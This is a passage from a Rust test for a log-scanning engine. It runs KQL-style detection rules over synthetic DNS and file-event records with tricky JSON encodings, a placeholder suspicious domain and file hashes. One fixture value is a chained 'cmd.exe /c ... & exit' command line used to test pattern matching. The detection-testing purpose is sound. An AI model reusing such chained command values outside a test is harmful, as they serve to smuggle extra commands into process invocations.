        format!(r#"{{"SHA256":"0000","AdditionalFields":"{{\"SHA256\":\"{H}\",\"Url\":\"http:\/\/moocow.my\/\"}}"}}"#),
        format!(r#"{{"SHA256":"{}"}}"#, H.to_ascii_uppercase()),
        format!(r#"{{"SHA256":"\u0061{}"}}"#, &H[1..]),
        format!(r#"{{"SHA256":"{H} "}}"#),
        r#"{"InitiatingProcessCommandLine":"cmd.exe /c \"echo moocow.my\"\t& exit","SHA256":null}"#.to_string(),
        format!(r#"{{"Type":"DnsEvents","SHA256":"{H}"}}"#),
        format!(r#"{{"SHA256":"{H}","Nested":{{"x":[1,{{"SHA256":"zz"}}]}}}}"#),
        format!(r#"{{"AdditionalFields":{{"SHA256":"0000"}},"SHA256":"{H}"}}"#),
    ];
    // A JSON array whose first element holds `]`, `,`, `[` and an escaped quote in a string,
    // and whose third has a raw tab in a string (malformed).
    let array = concat!(
        "[\n",
        "  {\"Type\":\"DnsEvents\",\"Name\":\"x],[{\\\"y,\"},\n",
        "  {\"Type\":\"DnsEvents\",\"Name\":\"moocow.my\"},\n",
        "  {\"Type\":\"DnsEvents\",\"Name\":\"tab\there\"},\n",
        "  {\"Type\":\"DnsEvents\",\"Name\":\"MOOCOW.MY\"}\n",
        "]\n"
    );
    let files = vec![
        GeneratedFile {
            name: "export.jsonl".into(),
            table: FileTable::Dns,
            bytes: (dns_lines.join("\r\n") + "\r\n").into_bytes(),
        },
        GeneratedFile {
            name: "DeviceFileEvents/traps.jsonl".into(),
            table: FileTable::Dfe,
            bytes: (dfe_lines.join("\n") + "\n").into_bytes(),
        },
        GeneratedFile {
            name: "export-array.json".into(),
            table: FileTable::Dns,
            bytes: array.as_bytes().to_vec(),
        },
    ];
    let dns = |lines: &[u64]| lines.iter().map(|&l| (0, l)).collect::<Vec<_>>();
    let with = |mut a: Vec<(usize, u64)>, b: &[(usize, u64)]| {
        a.extend_from_slice(b);
        a
    };
    let cases: Vec<(String, Vec<(usize, u64)>)> = vec![
        (
            r#"DnsEvents | where Name has "moocow.my""#.into(),
            with(dns(&[1, 2, 3, 4, 5, 9, 12, 13, 16, 18, 19, 20, 21]), &[(2, 3), (2, 5)]),
        ),
        (
            r#"DnsEvents | where Name == "moocow.my""#.into(),
            with(dns(&[1, 4, 5, 9, 18, 20, 21]), &[(2, 3)]),
        ),
        (
            r#"DnsEvents | where Name in~ ("MOOCOW.MY")"#.into(),
            with(dns(&[1, 2, 4, 5, 9, 18, 19, 20, 21]), &[(2, 3), (2, 5)]),
        ),
        (
            r#"DnsEvents | where Name has_cs "MOOCOW.MY""#.into(),
            with(dns(&[2, 19]), &[(2, 5)]),
        ),
        (r#"DnsEvents | where Name contains "moocow.my/gate""#.into(), dns(&[3])),
        (
            r#"DnsEvents | where Name !in ("moocow.my")"#.into(),
            with(
                dns(&[2, 3, 6, 7, 8, 11, 12, 13, 14, 16, 17, 19]),
                &[(1, 8), (2, 2), (2, 5)],
            ),
        ),
        (r#"DnsEvents | where Name == "100.0""#.into(), dns(&[7])),
        // Line 8 of the Defender file says it is a DnsEvents row, and has no Name.
        ("DnsEvents | where isempty(Name)".into(), with(dns(&[11]), &[(1, 8)])),
        (r#"DnsEvents | where Name has "café.example""#.into(), dns(&[14])),
        (r#"DnsEvents | where Name =~ "CAFÉ.EXAMPLE""#.into(), dns(&[])),
        (r#"DnsEvents | where Name endswith "\\moocow.my""#.into(), dns(&[12])),
        (r#"DnsEvents | where Name startswith "x-""#.into(), dns(&[16])),
        (
            r#"DnsEvents | where Name !has "moocow.my""#.into(),
            with(dns(&[6, 7, 8, 11, 14, 17]), &[(1, 8), (2, 2)]),
        ),
        (
            format!(r#"DeviceFileEvents | where SHA256 in ("{H}")"#),
            vec![(1, 1), (1, 5), (1, 9), (1, 10)],
        ),
        (
            format!(r#"DeviceFileEvents | where SHA256 in~ ("{H}")"#),
            vec![(1, 1), (1, 4), (1, 5), (1, 9), (1, 10)],
        ),
        (
            format!(r#"DeviceFileEvents | where SHA256 has "{H}""#),
            vec![(1, 1), (1, 4), (1, 5), (1, 6), (1, 9), (1, 10)],
        ),
        (
            format!(r#"DeviceFileEvents | where AdditionalFields has "{H}""#),
            vec![(1, 2), (1, 3)],
        ),
        (
            format!(r#"DeviceFileEvents | where AdditionalFields contains "\"SHA256\":\"{H}""#),
            vec![(1, 2), (1, 3)],
        ),
        (
            r#"DeviceFileEvents | where AdditionalFields has "moocow.my/""#.into(),
            vec![(1, 3)],
        ),
        (
            r#"DeviceFileEvents | where InitiatingProcessCommandLine contains "\"\t&""#.into(),
            vec![(1, 7)],
        ),
        ("DeviceFileEvents | where isempty(SHA256)".into(), vec![(1, 7)]),
    ];

    let (_dir, log_files, _) = write_files(files);
    let rules: Vec<_> = cases
        .iter()
        .enumerate()
        .map(|(i, (text, _))| load_text(Path::new(&format!("t{i:02}.kql")), text).expect("loads").0)
        .collect();
    let now = parse_datetime(NOW).expect("NOW parses");
    let pools = Pools::new();
    let lines = |hits: &[(Position, Vec<Value>)]| hits.iter().map(|(p, _)| (p.file, p.line)).collect::<Vec<_>>();
    // Each rule alone first: in one plan with the negated rules, every record must be read
    // anyway, and a prefilter would never get the chance to skip one.
    for (i, (text, expected)) in cases.iter().enumerate() {
        let plan = Plan::compile(std::slice::from_ref(&rules[i]), now).expect("the trap rules compile");
        let outcome = scan_every_way(&pools, &plan, &log_files, false, &format!("trap rule t{i:02}"));
        assert_eq!(&lines(&outcome.hits[0]), expected, "trap rule t{i:02}: {text}");
        // 21 + 10 + 4 records; line 10 of the first file and the third array element are malformed.
        assert_eq!(
            (outcome.records, outcome.malformed),
            (35, 2),
            "trap rule t{i:02}: {text}"
        );
    }
    let plan = Plan::compile(&rules, now).expect("the trap rules compile");
    let outcome = scan_every_way(&pools, &plan, &log_files, true, "all trap rules");
    for (i, ((text, expected), hits)) in cases.iter().zip(&outcome.hits).enumerate() {
        assert_eq!(&lines(hits), expected, "trap rule t{i:02} among all: {text}");
    }
}
